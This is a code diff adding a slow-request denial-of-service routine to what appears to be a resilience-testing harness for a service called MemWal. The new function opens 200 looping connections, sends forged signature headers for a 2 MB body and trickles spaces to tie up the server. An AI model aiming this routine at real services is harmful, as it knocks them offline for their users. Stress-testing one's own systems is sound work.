@@ -214,6 +214,35 @@ async def _listed_namespaces(target: _Target) -> None:
     await target.keep(8, lambda: gateway.request(identity, "/v1/namespaces", None, "GET"))
 
 
+async def _unsigned_bodies(target: _Target) -> None:
+    """Bodies of the largest size for MemWal's front, of which a kilobyte arrives now and then; no signature is good."""
+    host, _, port = target.server.authority.rpartition(":")
+    stamp, size = int(time.time()), 2 * 1024 * 1024
+    head = (
+        f"POST /api/recall HTTP/1.1\r\nHost: {target.server.authority}\r\nContent-Length: {size}\r\n"
+        f"x-public-key: {'ab' * 32}\r\nx-signature: {'cd' * 64}\r\nx-timestamp: {stamp}\r\n"
+        "x-nonce: 6f0d9b5e-6a0e-4c37-8f6b-111111111111\r\n\r\n"
+    ).encode()
+
+    async def trickle() -> None:
+        with suppress(OSError):
+            _, writer = await asyncio.open_connection(host, int(port))
+            writer.write(head)
+            while target.goes_on and not writer.is_closing():
+                writer.write(b" " * 1024)
+                await writer.drain()
+                await asyncio.sleep(0.25)
+            writer.transport.abort()
+
+    async def repeat() -> None:
+        while target.goes_on:
+            await trickle()
+            await asyncio.sleep(0.5)
+
+    target.begin()
+    await asyncio.gather(*(repeat() for _ in range(200)))
+
+
 _ATTACKS: dict[str, Callable[[_Target], Awaitable[None]]] = {
     "texts that grow": _growing_texts,
     "unread answers": _unread_answers,
@@ -222,6 +251,7 @@ _ATTACKS: dict[str, Callable[[_Target], Awaitable[None]]] = {
     "long queries": _long_queries,
     "taken streams": _taken_streams,
     "listed namespaces": _listed_namespaces,
+    "unsigned bodies": _unsigned_bodies,
 }
 
 
